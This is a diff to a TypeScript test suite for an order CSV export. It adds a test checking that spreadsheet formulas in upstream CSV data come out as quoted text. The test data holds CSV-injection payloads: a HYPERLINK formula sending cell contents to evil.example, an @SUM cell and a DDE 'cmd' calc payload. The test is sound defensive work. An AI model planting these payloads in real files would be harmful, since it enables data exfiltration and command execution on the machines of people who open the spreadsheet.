@@ -195,7 +195,7 @@ describe('order CSV export', () => {
     return answer(csvAction, args('/en/account/orders/csv', { form, cookie: await cookieOf({ user }) }))
   }
 
-  it('exports the selected orders as orders.csv, passing ICM’s CSV on unchanged', async () => {
+  it('exports the selected orders as orders.csv, ICM’s CSV cell for cell', async () => {
     const bodies = csvHandler()
     const { response } = await post(['o-1', 'o-2', 'o-1'])
     expect(bodies).toEqual([{ ids: ['o-1', 'o-2'] }])
@@ -216,6 +216,33 @@ describe('order CSV export', () => {
     expect(bodies).toEqual([{ ids: ['o-1'] }])
     expect(response.headers.get('Content-Disposition')).toBe('attachment; filename="order-10000077.csv"')
     expect(await response.text()).toBe(CSV)
+  })
+
+  it('hands out no spreadsheet formula ICM’s CSV carries: a cost center named =HYPERLINK(…) is text', async () => {
+    const formula = '=HYPERLINK("http://evil.example/?d="&A2,"Invoice")'
+    const icmCsv = [
+      'Order number,Product,Quantity,Total (net),Cost center',
+      `10000001,Anchor,2,-12.50,"${formula.replaceAll('"', '""')}"`,
+      '10000002,@SUM(A1:A9),1,4.00,+49 30 1234',
+      "10000003,-2+3+cmd|' /C calc'!A0,1,4.00,Site Operations",
+      '',
+    ].join('\r\n')
+    icm.use(
+      http.post(
+        icmPath('orders-csv'),
+        () => new HttpResponse(icmCsv, { headers: { 'content-type': 'text/csv; charset=utf-8' } }),
+      ),
+    )
+    const { response } = await post(['o-1', 'o-2', 'o-3'])
+    expect(response.status).toBe(200)
+    expect((await response.text()).split('\r\n')).toEqual([
+      'Order number,Product,Quantity,Total (net),Cost center',
+      // The negative amount stays a number; the cost center's name is text, quoted.
+      `10000001,Anchor,2,-12.50,"'${formula.replaceAll('"', '""')}"`,
+      `10000002,"'@SUM(A1:A9)",1,4.00,"'+49 30 1234"`,
+      `10000003,"'-2+3+cmd|' /C calc'!A0",1,4.00,Site Operations`,
+      '',
+    ])
   })
 
   it('goes back to the list with a message when nothing is selected', async () => {
